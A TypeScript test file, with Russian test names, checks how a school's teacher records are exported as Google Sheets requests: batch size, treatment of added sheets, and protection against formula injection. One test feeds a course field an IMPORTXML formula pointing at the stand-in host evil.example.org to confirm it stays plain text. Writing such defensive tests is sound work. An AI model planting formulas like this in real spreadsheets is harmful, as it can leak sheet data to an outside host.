// A school's book as requests of the Sheets service: one batch whatever the size of the school, the same content that the file has.
import { describe, expect, test } from "vitest";
import { schoolBook } from "../../src/exchange/book.ts";
import { bookPlan } from "../../src/exchange/parts.ts";
import { isOfIssue, sharedRequests } from "../../src/exchange/sharedBook.ts";
import { SCHOOL, teacher } from "./school.ts";

const BLANK = [{ properties: { sheetId: 0 } }];
const requestsOf = (teachers: typeof SCHOOL.teachers) =>
  sharedRequests(bookPlan(schoolBook({ ...SCHOOL, teachers })), 1, BLANK, "centre@example.org");

describe("книга школы как таблица", () => {
  test("школа в 300 педагогов укладывается в один вызов: меньше 1,5 МБ", () => {
    const teachers = Array.from({ length: 300 }, (_, index) =>
      teacher({
        id: `КР-${String(index + 1).padStart(4, "0")}`,
        name: "Соколова Марина Игоревна",
        subject: ["математика", "информатика"],
        courses: "2026, 72 часа, «Современные подходы к преподаванию»",
        category: "первая",
        decided: "2022-03-12",
        validUntil: "2027-03-12",
        validity: "до 12.03.2027",
      }),
    );
    const bytes = Buffer.byteLength(JSON.stringify({ requests: requestsOf(teachers) }));
    expect(bytes).toBeLessThan(1_500_000);
  });

  test("ничего из вписанного школой или центром не становится формулой", () => {
    const harm = teacher({
      id: "КР-0001",
      name: "=1+1",
      courses: '=IMPORTXML("http://evil.example.org";"/")',
    });
    const written = JSON.stringify(requestsOf([harm]));
    expect(written).toContain('"stringValue":"=1+1"');
    expect(written).not.toContain("formulaValue");
  });

  test("листы, которые добавили люди, выпуску не принадлежат", () => {
    expect([0, 1020, 1100].map(isOfIssue)).toEqual([true, true, true]);
    expect([7, 1_843_920_384].map(isOfIssue)).toEqual([false, false]);
  });
});
